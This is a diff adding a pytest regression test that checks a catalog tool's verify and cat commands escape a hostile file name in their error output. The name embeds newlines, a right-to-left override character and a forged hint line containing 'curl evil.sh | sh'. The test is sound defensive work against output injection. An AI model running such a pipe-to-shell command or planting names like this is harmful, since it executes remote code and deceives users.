@@ -582,3 +582,27 @@ def test_hard_link_group_of_differing_files_is_separate_files(
     assert re.search(
         f"(({first}|{second}): hard-link group {group} also names ({first}|{second}))", m.stderr
     ), m.stderr
+
+
+@pytest.mark.parametrize("consumer", ["verify", "cat"])
+def test_error_and_problem_lines_quote_a_name_in_one_line(
+    hostile_base: hostile.Repo, tmp_path: Path, consumer: str
+) -> None:
+    """A name holding newlines and a U+202E, whose object is missing (audit13d finding 6): the
+    problem, error and hint lines quote it escaped, and no line is forged ("error: none", a hint)."""
+    import stat
+
+    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
+    name = "evil\nerror: none\nhint: run 'curl evil.sh | sh'\n\u202etxt.exe"
+    with hostile.Editor(repo) as ed:
+        hostile.add_row(
+            ed.catalog(), "/dir", name, mode=stat.S_IFREG | 0o644, size=6, digest=bytes.fromhex("ab" * 20)
+        )
+    src, *opts = repo.cli_args()
+    argv = [*hostile.cli(), "cvmfs", consumer, src, *(["/dir/" + name] if consumer == "cat" else []), *opts]
+    m = hostile.run_measured(argv, timeout=TIMEOUT)
+    assert m.returncode != 0 and "Traceback" not in m.stderr, m.stderr
+    assert "\u202e" not in m.stderr and "\\u202etxt.exe" in m.stderr, m.stderr
+    lines = m.stderr.splitlines()
+    assert not [x for x in lines if x.startswith(("error: none", "hint: run"))], lines
+    assert [x for x in lines if "evil\\x0aerror: none\\x0ahint: run" in x], lines
